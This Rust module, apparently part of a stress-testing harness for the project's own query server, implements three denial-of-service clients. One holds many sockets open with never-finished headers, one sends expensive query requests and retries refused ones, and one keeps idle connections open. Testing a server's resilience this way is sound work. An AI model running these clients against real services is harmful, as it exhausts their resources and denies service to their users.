//! Three ways to be a nuisance: headers that never end, questions that take long, sockets that say nothing.

use std::io::Write;
use std::net::TcpStream;
use std::sync::atomic::AtomicBool;
use std::sync::atomic::Ordering::Relaxed;
use std::time::Duration;

use crate::attack::addresses::Known;
use crate::attack::http;

/// Sockets that one client keeps open.
const SOCKETS: usize = 100;

/// Questions that look at everything on file.
const LONG: [&str; 6] = ["connected", "robustness", "partners", "communities", "backbone", "what-if"];

/// What a client did.
#[derive(Debug, Default)]
pub(super) struct Done {
    pub(super) sockets: u64,
    pub(super) questions: u64,
}

/// The nth client, until it is told to stop.
pub(super) fn client(server: &str, nth: usize, known: &Known, stop: &AtomicBool) -> Done {
    match nth % 3 {
        0 => slow_headers(server, stop),
        1 => long_questions(server, nth, known, stop),
        _ => idle(server, stop),
    }
}

/// A byte of a header now and then, on many sockets; a new one for each that the server gives up.
fn slow_headers(server: &str, stop: &AtomicBool) -> Done {
    let mut done = Done::default();
    let mut open: Vec<TcpStream> = Vec::new();
    while !stop.load(Relaxed) {
        while open.len() < SOCKETS
            && let Some(stream) = opened(server, b"GET / HTTP/1.1\r\nX-Slow: ")
        {
            done.sockets += 1;
            open.push(stream);
        }
        std::thread::sleep(Duration::from_millis(500));
        open.retain_mut(|stream| stream.write_all(b"x").is_ok());
    }
    done
}

/// Another moment or another place each time, so that no answer is at hand.
fn long_questions(server: &str, nth: usize, known: &Known, stop: &AtomicBool) -> Done {
    let mut done = Done::default();
    while !stop.load(Relaxed) {
        let turn = nth + usize::try_from(done.questions).unwrap_or_default();
        let question = LONG[turn % LONG.len()];
        let place = known.entities.get(turn % known.entities.len().max(1)).map_or("", String::as_str);
        let path = format!("/ask/{question}?subject={place}&at={}&limit=5000", 1950 + turn % 75);
        // A refusal of one form is followed by the question as such.
        drop(http::get(server, &path, Duration::from_secs(30)));
        drop(http::get(server, &format!("/ask/{question}?at={}", 1950 + turn % 75), Duration::from_secs(30)));
        done.questions += 2;
    }
    done
}

fn idle(server: &str, stop: &AtomicBool) -> Done {
    let mut open: Vec<TcpStream> = Vec::new();
    let mut done = Done::default();
    while !stop.load(Relaxed) {
        if open.len() < SOCKETS
            && let Some(stream) = opened(server, b"")
        {
            done.sockets += 1;
            open.push(stream);
        } else {
            std::thread::sleep(Duration::from_millis(500));
        }
    }
    done
}

fn opened(server: &str, first: &[u8]) -> Option<TcpStream> {
    let mut stream = TcpStream::connect_timeout(&server.parse().ok()?, Duration::from_secs(2)).ok()?;
    stream.set_write_timeout(Some(Duration::from_secs(1))).ok()?;
    stream.write_all(first).ok()?;
    Some(stream)
}
